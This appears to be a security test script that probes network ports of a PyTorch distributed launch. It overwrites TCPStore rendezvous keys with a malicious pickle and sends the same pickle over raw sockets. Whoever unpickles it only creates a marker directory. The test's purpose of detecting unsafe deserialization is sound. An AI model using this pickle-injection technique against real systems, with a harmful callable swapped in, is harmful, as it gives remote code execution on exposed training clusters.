"""What a stranger who reaches a port may try: `python -m tests.launch.attack MARKER ADDRESS:PORT ...`.

Whoever unpickles what is sent here makes the marker file.
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
import sys
import threading
from contextlib import suppress
from datetime import timedelta

import torch.distributed as dist

STORE_SECONDS = 1.5  # to write its few keys


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.marker,)


def as_client_of_the_store(address: str, port: int, payload: bytes) -> None:
    """Writes over all that is there. torch's dynamic rendezvous keeps its state as a pickle in base64."""
    store = dist.TCPStore(address, port, timeout=timedelta(seconds=2), wait_for_workers=False)
    for key in store.list_keys():
        for name in (key, key.removeprefix("/")):
            store.set(name, base64.b64encode(payload).decode())


def attack(address: str, port: int, payload: bytes) -> None:
    # a daemon: where no store listens, torch waits for its answer for ever
    client = threading.Thread(target=as_client_of_the_store, args=(address, port, payload), daemon=True)
    client.start()
    client.join(STORE_SECONDS)
    for content in (payload, len(payload).to_bytes(8, "little") + payload):
        with suppress(OSError), socket.create_connection((address, port), timeout=2) as connection:
            connection.sendall(content)


def main(marker: str, *places: str) -> None:
    for place in places:
        address, _, port = place.rpartition(":")
        attack(address, int(port), pickle.dumps(Payload(marker)))
    print(f"{len(places)} ports tried", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main(*sys.argv[1:])
